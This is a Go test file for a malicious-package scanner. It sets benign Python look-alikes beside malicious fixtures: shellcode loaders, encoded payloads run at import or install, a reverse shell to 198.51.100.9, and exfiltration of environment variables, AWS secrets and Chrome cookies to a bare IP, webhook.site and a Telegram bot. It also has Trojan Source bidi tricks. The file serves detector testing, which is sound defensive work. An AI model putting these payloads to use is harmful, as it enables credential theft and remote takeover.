package analyze

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"encoding/ascii85"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
)

// The classes of legitimate code that were once called malicious on
// popular projects (issue 18), each written as the nearest legitimate
// look-alike next to the malicious code it resembles. A legitimate one
// may be suspicious when a reviewer would want to look, never malicious;
// the malicious one must stay malicious.
func TestFalsePositiveClasses(t *testing.T) {
	shellcode := make([]byte, 320)
	rng := rand.New(rand.NewPCG(7, 11))
	for i := range shellcode {
		shellcode[i] = byte(rng.IntN(256))
	}
	scB64 := b64(string(shellcode))
	stage := "import os, socket, getpass, requests\nrequests.post('http://198.51.100.23:8080/c', data={'u': getpass.getuser(), 'h': socket.gethostname(), 'env': dict(os.environ)})\n"

	tests := []struct {
		class, name string
		files       map[string]string
		want        Verdict
	}{
		// Vendored debuggers inject their own library into a process the
		// user names; a loader copies an embedded payload into executable
		// memory and starts it.
		{"debugger", "DLL path written into a process the user names", map[string]string{"p/pydevd_attach_to_process/attach.py": "" +
			"import ctypes, sys\nk32 = ctypes.windll.kernel32\n" +
			"def attach(pid, dll_path):\n    h = k32.OpenProcess(0x1F0FFF, False, pid)\n    path = dll_path.encode('utf-16-le')\n" +
			"    addr = k32.VirtualAllocEx(h, None, len(path), 0x3000, 0x04)\n    k32.WriteProcessMemory(h, addr, path, len(path), None)\n" +
			"    load = k32.GetProcAddress(k32.GetModuleHandleW('kernel32.dll'), b'LoadLibraryW')\n    k32.CreateRemoteThread(h, None, 0, load, addr, 0, None)\n" +
			"if __name__ == '__main__':\n    attach(int(sys.argv[1]), sys.argv[2])\n"}, Suspicious},
		{"debugger", "embedded shellcode started at import", map[string]string{"p/__init__.py": "" +
			"import base64, ctypes\nsc = base64.b64decode('" + scB64 + "')\nk = ctypes.windll.kernel32\n" +
			"ptr = k.VirtualAlloc(0, len(sc), 0x3000, 0x40)\nctypes.memmove(ptr, sc, len(sc))\nh = k.CreateThread(0, 0, ptr, 0, 0, 0)\nk.WaitForSingleObject(h, -1)\n"}, Malicious},

		// Freezers run the code objects of their own archive; a dropper
		// runs a code object it carries encoded.
		{"freezer", "bootloader running code objects read from its archive", map[string]string{"p/loader/pyimod02_importers.py": "" +
			"import marshal, zlib\nclass FrozenImporter:\n    def __init__(self, archive):\n        self.f = open(archive, 'rb')\n        self.toc = {}\n" +
			"    def get_code(self, name):\n        pos, size = self.toc[name]\n        self.f.seek(pos)\n        return marshal.loads(zlib.decompress(self.f.read(size)))\n" +
			"    def exec_module(self, module):\n        exec(self.get_code(module.__name__), module.__dict__)\n"}, Clean},
		{"freezer", "encoded code object run at import", map[string]string{"p/__init__.py": "" +
			"import base64, marshal, zlib\nexec(marshal.loads(zlib.decompress(base64.b64decode('" + b64(strings.Repeat("c\x00\x00\x00", 64)) + "'))))\n"}, Malicious},

		// Template engines and code generators compile the source they
		// generate; obfuscated code compiles what it decoded.
		{"codegen", "template compiled to a render function", map[string]string{"p/template.py": "" +
			"class Template:\n    def __init__(self, text):\n        src = self.generate(text)\n        code = compile(src, '<template>', 'exec')\n        ns = {}\n        exec(code, ns)\n        self.render = ns['render']\n" +
			"    def generate(self, text):\n        lines = ['def render(ctx):', '    out = []']\n        for part in text.split('{{'):\n            lines.append('    out.append(%r)' % part)\n        lines.append('    return \"\".join(out)')\n        return '\\n'.join(lines)\n"}, Clean},
		{"codegen", "decoded source compiled and run at import", map[string]string{"p/__init__.py": "" +
			"import base64, types\ncode = compile(base64.b64decode('" + b64(stage) + "'), '<x>', 'exec')\ntypes.FunctionType(code, globals())()\n"}, Malicious},

		// Remote-execution frameworks send a compressed copy of their own
		// module to another host; a dropper runs a compressed payload here.
		{"remote-exec", "own module shipped compressed over ssh", map[string]string{"p/gateway.py": "" +
			"import base64, inspect, subprocess, zlib\nfrom p import bootstrap\n" +
			"def boot_command(python='python3'):\n    src = inspect.getsource(bootstrap)\n    blob = base64.b64encode(zlib.compress(src.encode())).decode()\n" +
			"    return [python, '-c', \"import base64,zlib;exec(zlib.decompress(base64.b64decode('%s')))\" % blob]\n" +
			"def connect(host):\n    return subprocess.Popen(['ssh', host] + boot_command(), stdin=subprocess.PIPE, stdout=subprocess.PIPE)\n",
			"p/bootstrap.py": "import sys\ndef serve():\n    for line in sys.stdin:\n        sys.stdout.write(line)\n"}, Clean},
		{"remote-exec", "compressed payload run at install", map[string]string{"setup.py": "" +
			"import base64, zlib\nexec(zlib.decompress(base64.b64decode('" + b64z(stage) + "')))\n"}, Malicious},
		{"remote-exec", "compressed payload run by python -c at install", map[string]string{"setup.py": "" +
			"import os\nos.system(\"python3 -c \\\"import base64,zlib;exec(zlib.decompress(base64.b64decode('" + b64z(stage) + "')))\\\"\")\n"}, Malicious},

		// Bootstrap installers carry a zip of their own source and import
		// from it; a dropper decodes a payload and runs it.
		{"installer", "bootstrap script importing its embedded zip", map[string]string{"p/_bootstrap/get_tool.py": "" +
			"import base64, os, sys, tempfile\nDATA = b\"\"\"\n" + b85zip(t) + "\"\"\"\n" +
			"def bootstrap(tmpdir):\n    path = os.path.join(tmpdir, 'tool.zip')\n    with open(path, 'wb') as fp:\n        fp.write(base64.b85decode(DATA.replace(b'\\n', b'')))\n" +
			"    sys.path.insert(0, path)\n    from tool.cli import main\n    return main()\n" +
			"def main():\n    bootstrap(tempfile.mkdtemp())\nif __name__ == '__main__':\n    main()\n"}, Clean},
		{"installer", "embedded payload decoded and run at import", map[string]string{"p/__init__.py": "" +
			"import base64\nDATA = '" + b64(stage) + "'\nexec(base64.b64decode(DATA))\n"}, Malicious},

		// Kernels run the cells their front end sends; a reverse shell
		// runs what a remote host sends.
		{"kernel", "test kernel running cells in a shell", map[string]string{"p/tests/shell_kernel.py": "" +
			"import subprocess\nfrom ipykernel.kernelbase import Kernel\nclass ShellKernel(Kernel):\n    implementation = 'shell'\n" +
			"    def do_execute(self, code, silent, store_history=True, user_expressions=None, allow_stdin=False):\n" +
			"        out = subprocess.run(code, shell=True, capture_output=True, text=True).stdout\n" +
			"        self.send_response(self.iopub_socket, 'stream', {'name': 'stdout', 'text': out})\n        return {'status': 'ok'}\n"}, Clean},
		{"kernel", "shell for a remote host at import", map[string]string{"p/__init__.py": "" +
			"import socket, subprocess\ns = socket.socket()\ns.connect(('198.51.100.9', 4444))\nwhile True:\n    cmd = s.recv(1024).decode()\n" +
			"    s.send(subprocess.run(cmd, shell=True, capture_output=True).stdout)\n"}, Malicious},

		// Debug consoles, notebook magics and task queues run what their
		// user types; a backdoor route runs what anyone sends.
		{"remote-control", "debug console, shell magic and a command task", map[string]string{
			"p/debug/__init__.py": "" +
				"from werkzeug.wrappers import Request, Response\nclass DebuggedApplication:\n    def execute_command(self, request, command, frame):\n        return Response(frame.console.eval(command), mimetype='text/html')\n" +
				"    def __call__(self, environ, start_response):\n        request = Request(environ)\n        cmd = request.args.get('cmd')\n        if cmd is not None and self.check_pin_trust(environ):\n            return self.execute_command(request, cmd, self.frames[0])\n",
			"p/magics.py": "import subprocess\nfrom IPython.core.magic import register_line_magic\n@register_line_magic\ndef sh(line):\n    return subprocess.check_output(line, shell=True)\n",
			"p/tasks.py":  "import subprocess\nfrom celery import shared_task\n@shared_task\ndef run_command(cmd):\n    return subprocess.run(cmd, shell=True, capture_output=True).stdout\n"}, Clean},
		{"remote-control", "a web route running the command it is sent", map[string]string{"p/server.py": "" +
			"import subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.route('/x', methods=['POST'])\ndef x():\n    return subprocess.check_output(request.form['c'], shell=True)\n"}, Malicious},

		// Login helpers tell the service they log in to which machine asks;
		// a beacon tells a stranger's server who installed it.
		{"auth", "device name sent to the login service", map[string]string{"p/auth.py": "" +
			"import os, socket, requests\ndef register_device(session, tenant):\n    body = {'deviceName': socket.gethostname(), 'tenant': tenant}\n" +
			"    return session.post('https://login.example.invalid/devices/register', json=body)\n" +
			"def msi_token(resource):\n    headers = {'secret': os.environ['MSI_SECRET']}\n    return requests.get(os.environ['MSI_ENDPOINT'] + '?resource=' + resource, headers=headers)\n" +
			"def release(notes):\n    requests.post('https://api.github.com/repos/o/p/releases', json={'body': notes}, auth=('bot', os.environ['GH_TOKEN']))\n"}, Clean},
		{"auth", "a cloud secret from the environment sent in a header to a request catcher", map[string]string{"p/auth.py": "" +
			"import os, requests\ndef check():\n    requests.get('https://webhook.site/0b1c', headers={'k': os.environ['AWS_SECRET_ACCESS_KEY']})\n"}, Malicious},
		{"auth", "host and user sent to a bare IP at install", map[string]string{"setup.py": stage}, Malicious},

		// Progress bars that post to a chat; a stealer that posts secrets.
		{"chat", "progress bar reporting to a chat bot", map[string]string{"p/contrib/telegram.py": "" +
			"import os, requests\nfrom tqdm.auto import tqdm as tqdm_auto\nclass tqdm_telegram(tqdm_auto):\n" +
			"    def __init__(self, *args, **kwargs):\n        self.token = kwargs.pop('token', os.environ.get('TQDM_TELEGRAM_TOKEN'))\n        self.chat_id = kwargs.pop('chat_id', os.environ.get('TQDM_TELEGRAM_CHAT_ID'))\n        super().__init__(*args, **kwargs)\n" +
			"    def display(self, **kwargs):\n        requests.post(f'https://api.telegram.org/bot{self.token}/sendMessage', data={'chat_id': self.chat_id, 'text': self.format_meter(**self.format_dict)})\n",
			"p/contrib/discord.py": "" +
				"import os, requests\nclass DiscordIO:\n    def __init__(self, token=None, channel_id=None):\n        self.token = token or os.environ.get('TQDM_DISCORD_TOKEN')\n        self.url = f'https://discord.com/api/v10/channels/{channel_id}/messages'\n" +
				"    def write(self, s):\n        requests.post(self.url, headers={'Authorization': f'Bot {self.token}'}, json={'content': s})\n"}, Clean},
		{"chat", "browser cookies posted to a chat bot at import", map[string]string{"p/__init__.py": "" +
			"import os, requests\np = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Default', 'Network', 'Cookies')\n" +
			"requests.post('https://api.telegram.org/bot123456:AAE/sendDocument', data={'chat_id': '42'}, files={'document': open(p, 'rb')})\n"}, Malicious},

		{"chat", "a helper given the bot token the module holds", map[string]string{"p/report.py": "" +
			"import requests\ndef send(token, chat, text):\n    requests.post(f'https://api.telegram.org/bot{token}/sendMessage', data={'chat_id': chat, 'text': text})\n" +
			"def report(data):\n    send('123456789:AAHfakefakefakefakefakefakefakefake', '42', data)\n"}, Suspicious},

		// Generated tables and model weights are long and dense; so are
		// packed payloads, but those are run.
		{"tables", "generated character table and model weights", map[string]string{"p/_tables.py": charTable(), "p/model/weights.py": weightsModule(rng)}, Clean},
		{"tables", "packed payload beside a table, run at import", map[string]string{"p/_tables.py": charTable(), "p/__init__.py": "" +
			"import base64, zlib\nexec(zlib.decompress(base64.b64decode('" + b64z(stage+strings.Repeat("# pad\n", 200)) + "')))\n"}, Malicious},

		// Localisation tests hold right-to-left text with its embedding
		// marks; Trojan Source turns code around with the same marks.
		{"bidi", "right-to-left test string with balanced embedding", map[string]string{"p/tests/test_checks.py": "" +
			"def test_quotes():\n    assert passes('The <area> tag.', 'مشخصه \u202a<area shape=\"circle\">\u202c منفی است.')\n"}, Clean},
		{"bidi", "a linter's test data turning code around", map[string]string{"tests/functional/b/bidirectional_unicode.py": "" +
			"def is_admin(access_level):\n    if access_level != \"user\u202e \u2066# check if admin\u2069 \u2066\":  # [bidirectional-unicode]\n        return True\n    return False\n"}, Clean},
		{"bidi", "string turned around to hide a comparison", map[string]string{"p/auth.py": "" +
			"def is_admin(access_level):\n    if access_level != \"user\u202e \u2066# check if admin\u2069 \u2066\":\n        return True\n    return False\n"}, Suspicious},
	}
	for _, tt := range tests {
		t.Run(tt.class+"/"+tt.name, func(t *testing.T) {
			r := sdist(t, tt.files)
			if r.Verdict != tt.want {
				t.Errorf("verdict %s, want %s; findings:\n%s", r.Verdict, tt.want, findingLines(r))
			}
		})
	}
}

func findingLines(r *Result) string {
	var b strings.Builder
	for _, f := range r.Findings {
		fmt.Fprintf(&b, "  %s %s %s:%d (%s): %s\n", f.Severity, f.Rule, f.File, f.Line, f.Context, f.Message)
	}
	return b.String()
}

// b64z is base64 of zlib-compressed s.
func b64z(s string) string {
	var buf bytes.Buffer
	zw := zlib.NewWriter(&buf)
	zw.Write([]byte(s))
	zw.Close()
	return b64(buf.String())
}

// b85zip is a zip of a small package, base85-encoded in lines as
// bootstrap installers embed it.
func b85zip(t *testing.T) string {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for i := range 8 {
		w, _ := zw.Create(fmt.Sprintf("tool/mod%d.py", i))
		fmt.Fprintf(w, "def f%d(x):\n    return [y * %d for y in x]\n", i, i)
	}
	w, _ := zw.Create("tool/cli.py")
	w.Write([]byte("def main():\n    print('ok')\n"))
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	enc := make([]byte, ascii85.MaxEncodedLen(buf.Len()))
	enc = enc[:ascii85.Encode(enc, buf.Bytes())]
	var lines []string
	for len(enc) > 79 {
		lines = append(lines, string(enc[:79]))
		enc = enc[79:]
	}
	return strings.Join(append(lines, string(enc)), "\n")
}

// charTable is a generated mapping of code points, as Unicode and
// transliteration modules ship them.
func charTable() string {
	var b strings.Builder
	b.WriteString("# generated by tools/gen_tables.py; do not edit\nDECOMP = {\n")
	for r := rune(0x4E00); r < 0x4E00+6000; r++ {
		fmt.Fprintf(&b, "    0x%04X: '%c',\n", r, r+1)
	}
	b.WriteString("}\nNAMES = [\n")
	for i := range 3000 {
		fmt.Fprintf(&b, "    'U%04X', 'Ж%c', 'λ%c',\n", i, rune(0x430+i%32), rune(0x3B1+i%24))
	}
	b.WriteString("]\n")
	return b.String()
}

// weightsModule is a model's weights written out as Python: long float
// lists and a base64 blob read back with numpy.
func weightsModule(rng *rand.Rand) string {
	var b strings.Builder
	b.WriteString("import base64\nimport numpy as np\nW1 = [\n")
	for i := range 20000 {
		fmt.Fprintf(&b, "%.6f, ", rng.Float64()*2-1)
		if i%8 == 7 {
			b.WriteString("\n")
		}
	}
	raw := make([]byte, 60000)
	for i := range raw {
		raw[i] = byte(rng.IntN(256))
	}
	b.WriteString("]\nB1 = '" + b64(string(raw)) + "'\n")
	b.WriteString("def load():\n    return np.array(W1, dtype=np.float32), np.frombuffer(base64.b64decode(B1), dtype=np.float32)\n")
	return b.String()
}
